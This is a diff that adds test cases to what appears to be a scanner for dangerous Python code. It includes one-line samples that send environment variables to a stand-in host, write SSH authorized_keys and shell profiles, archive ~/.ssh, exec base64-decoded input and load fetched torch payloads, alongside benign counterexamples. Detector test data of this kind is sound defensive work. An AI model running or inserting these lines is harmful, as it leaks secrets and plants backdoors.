@@ -55,6 +55,10 @@ class A:~  x: "__import__('os').system('true')"
 import typing~class A: pass~A.__annotations__ = {"x": "exec(input())"}~typing.get_type_hints(A)
 import logging.config as c~c.dictConfig({"handlers": {"a": {"()": "os.system"}}})
 import importlib.util as u~u.spec_from_file_location("a", "/tmp/a.py")
+import json~d = json.loads('{"m": "os", "f": "system"}')~getattr(__import__(d["m"]), d["f"])(1)
+import base64~def f(): return base64.b64decode(input())~exec(f())
+from sh import bash~bash("-c", "true")
+import torch, requests~def f(): return torch.load(requests.get("https://a.example").content)
 """.strip().splitlines()
 OWN = r"""
 from pathlib import Path~(Path.home() / ".bashrc").write_text("x")
@@ -76,6 +80,12 @@ from pathlib import Path~def f():~  for p in Path.home().rglob("*"): p.unlink()
 import requests, os~def f(): requests.post("https://a.example", json={"e": {**os.environ}})
 import requests, os~def f():~  d = dict(os.environ)~  requests.post("https://a.example", json=d)
 import requests, os~def f():~  for k, v in os.environ.items(): requests.get(f"https://a.example/{k}={v}")
+import httpx, os~def f():~  e = {}~  e.update(os.environ)~  httpx.post("https://a.example", json=e)
+import httpx, os~def g(): return dict(os.environ)~def f(): httpx.post("https://a.example", json=g())
+from pathlib import Path~Path.home().joinpath(*[".ssh", "authorized_keys"]).write_text("x")
+import os~open(os.path.expanduser("~") + os.sep + ".bash_profile", "a").write("x")
+import shutil~shutil.make_archive("x", "zip", "/home")
+import tarfile, os~tarfile.open("x", "w").add(os.path.expanduser("~/.ssh"))
 import socket~def f(x):~  s = socket.socket()~  s.connect(("8.8.4.4", 1))~  s.send(x)
 """.strip().splitlines()
 SUSPICIOUS = {
@@ -88,6 +98,13 @@ SUSPICIOUS = {
     "a function by its name": "x = load('os.system')\n",
     "trust in a dictionary": "import transformers as t\nk = {'trust_remote_code': True}\n"
     "t.AutoModel.from_pretrained('a/b', **k)\n",
+    "a folder of everybody's": "import sys\nsys.path.insert(0, '/tmp')\nimport part\n",
+    "a module of others": "import sys\nsys.modules['torch'] = object()\n",
+    "variables at once": "import os\nos.environ.update({'LD_PRELOAD': 'x.so'})\n"
+    "os.environ |= {'PYTHONSTARTUP': 'x'}\n",
+    "a module and a function of a file, on import": "import importlib, json\n"
+    "d = json.load(open('c.json'))\ngetattr(importlib.import_module(d['m']), d['f'])()\n",
+    "passwords": "import keyring\nkeyring.get_password('a', 'b')\n",
     "a folder of start-up files": "import site\nsite.addsitedir('.')\n",
 }
 CLEAN = {
@@ -105,6 +122,10 @@ CLEAN = {
     "  raise ValueError('see ~/.bashrc')\n",
     "types": "import subprocess\nfrom typing import Optional\n"
     "def f(x: Optional[subprocess.Popen], y: 'Optional[int]') -> subprocess.Popen: return x\n",
+    "a name that ends so": "def f(n, x):\n  with open(f'{n}.profile', 'w') as f: f.write(x)\n",
+    "tensors that are fetched": "import torch, requests\n"
+    "def f(): return torch.load(requests.get('https://a.example').content, weights_only=True)\n",
+    "a method of something": "def f(x, n):\n  g = getattr(x, n)\n  return g.__self__\n",
     "a copy of installed code": "import shutil, torch\nshutil.copy(torch.__file__, 'x')\n",
 }
 ATTACK = "exec(__import__('base64').b64decode('MQ=='))"
